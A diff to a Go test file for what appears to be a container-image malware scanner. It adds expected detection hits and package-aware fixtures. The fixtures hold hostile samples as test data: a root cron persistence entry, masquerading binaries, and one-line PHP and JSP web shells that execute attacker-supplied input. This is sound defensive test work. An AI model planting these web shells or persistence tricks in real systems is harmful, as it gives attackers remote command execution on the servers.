@@ -74,7 +74,8 @@ func classImages(t testing.TB) ([]testImage, []hit) {
 		ent{name: "usr/lib/debug/.build-id/cd/ef456789", mode: 0o755, body: elf("miner")})),
 		hit{rule: "executable-in-temp-or-hidden-dir", path: "/tmp/.cache/run", layer: 1},
 		hit{rule: "executable-in-temp-or-hidden-dir", path: "/tmp/libhook.so", layer: 1},
-		hit{rule: "executable-in-temp-or-hidden-dir", path: "/usr/lib/debug/.build-id/cd/ef456789", layer: 1})
+		hit{rule: "executable-in-temp-or-hidden-dir", path: "/usr/lib/debug/.build-id/cd/ef456789", layer: 1},
+		hit{rule: "unpackaged-system-executable", path: "/usr/lib/debug/.build-id/cd/ef456789", layer: 1})
 
 	// 4. A setuid helper, a binary with file capabilities, and a hardlink
 	// whose setgid mode extraction applies to the file it links.
@@ -90,11 +91,14 @@ func classImages(t testing.TB) ([]testImage, []hit) {
 		hit{rule: "file-capabilities", path: "/usr/local/bin/pinger", layer: 1})
 
 	// 5. A cron entry added by a plain layer; a package install (init
-	// script, libc upgrade) and a home copied from /etc/skel are normal.
+	// script, libc upgrade, as dpkg writes them) and a home copied from
+	// /etc/skel are normal.
+	svcInit := pkg{name: "svc", version: "1.0-1", arch: "amd64", files: []pkgFile{{path: "/etc/init.d/svc", mode: 0o755, body: "#!/bin/sh\n", conffile: true}}}
+	libc2 := basePackages()[3]
+	libc2.version = "2.36-9+deb12u7"
+	libc2.files = []pkgFile{{path: "/usr/lib/libc.so.6", mode: 0o755, body: elf("libc 2")}, libc2.files[1]}
 	add(img("test/persistence",
-		layerOf(t, ent{name: "var/lib/dpkg/status", body: "Package: base\n\nPackage: svc\n"},
-			ent{name: "etc/init.d/svc", mode: 0o755, body: "#!/bin/sh\n"},
-			ent{name: "usr/lib/libc.so.6", mode: 0o755, body: elf("libc 2")}),
+		dpkgLayer(t, with(basePackages(), svcInit, libc2), []pkg{svcInit, libc2}),
 		layerOf(t, ent{name: "etc/cron.d/updater", body: "* * * * * root /usr/local/bin/x\n"},
 			ent{name: "home/app/.bashrc", body: "# ~/.bashrc\n"})),
 		hit{rule: "persistence-point", path: "/etc/cron.d/updater", layer: 2})
@@ -133,7 +137,8 @@ func classImages(t testing.TB) ([]testImage, []hit) {
 	// 7. /usr/bin/ls replaced without the package manager.
 	add(img("test/drift", layerOf(t, ent{name: "usr/bin/ls", mode: 0o755, body: elf("ls, but not")})),
 		hit{rule: "system-binary-replaced", path: "/usr/bin/ls", layer: 1},
-		hit{rule: "system-binary-fleet-drift", path: "/usr/bin/ls", layer: 1})
+		hit{rule: "system-binary-fleet-drift", path: "/usr/bin/ls", layer: 1},
+		hit{rule: "package-binary-modified", path: "/usr/bin/ls", layer: 1})
 
 	// 8. History and config.
 	cfgImg := img("test/config", layerOf(t, ent{name: "opt/x.sh", mode: 0o755, body: "#!/bin/sh\n"}))
@@ -158,12 +163,14 @@ func classImages(t testing.TB) ([]testImage, []hit) {
 	// 11. A link into /usr/bin, then a file written through it: the tar
 	// says /opt/plugins/ls, extraction replaces /usr/bin/ls. The base's own
 	// bin -> usr/bin, written through by a package, is normal.
+	pkgtool := pkg{name: "pkgtool", version: "2.1-1", arch: "amd64", files: []pkgFile{{path: "/bin/pkgtool", mode: 0o755, body: elf("pkgtool")}}}
 	add(img("test/links",
-		layerOf(t, ent{name: "opt/plugins", typ: tar.TypeSymlink, link: "/usr/bin"}, ent{name: "bin/pkgtool", mode: 0o755, body: elf("pkgtool")}),
+		dpkgLayer(t, with(basePackages(), pkgtool), []pkg{pkgtool}, ent{name: "opt/plugins", typ: tar.TypeSymlink, link: "/usr/bin"}),
 		layerOf(t, ent{name: "opt/plugins/ls", mode: 0o755, body: elf("ls, but not")})),
 		hit{rule: "written-through-link-into-system-dir", path: "/usr/bin/ls", layer: 2},
 		hit{rule: "system-binary-replaced", path: "/usr/bin/ls", layer: 2},
-		hit{rule: "system-binary-fleet-drift", path: "/usr/bin/ls", layer: 2})
+		hit{rule: "system-binary-fleet-drift", path: "/usr/bin/ls", layer: 2},
+		hit{rule: "package-binary-modified", path: "/usr/bin/ls", layer: 2})
 
 	// 12. A healthcheck, an ONBUILD trigger and a SHELL that fetch and run
 	// code, and an image that drops to a user and goes back to root; then
@@ -302,7 +309,10 @@ func classImages(t testing.TB) ([]testImage, []hit) {
 		hit{rule: "masquerade-content-kind", path: "/var/www/html/logo.png", layer: 1},
 		hit{rule: "masquerade-kernel-thread-name", path: "/usr/local/lib/kworkerds", layer: 1},
 		hit{rule: "masquerade-confusable-name", path: "/usr/bin/cr\u043en", layer: 1},
-		hit{rule: "masquerade-daemon-name", path: "/var/lib/app/sshd", layer: 1})
+		hit{rule: "masquerade-daemon-name", path: "/var/lib/app/sshd", layer: 1},
+		// No package of the image owns them.
+		hit{rule: "unpackaged-system-executable", path: "/usr/bin/cr\u043en", layer: 1},
+		hit{rule: "unpackaged-system-executable", path: "/usr/sbin/sshd", layer: 1})
 	add(img("test/webshell", layerOf(t,
 		ent{name: "var/www/html/uploads/img.php", body: "<?php @eval(base64_decode($_POST['c'])); ?>\n"},
 		ent{name: "usr/local/tomcat/webapps/ROOT/cmd.jsp", body: "<% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n"},
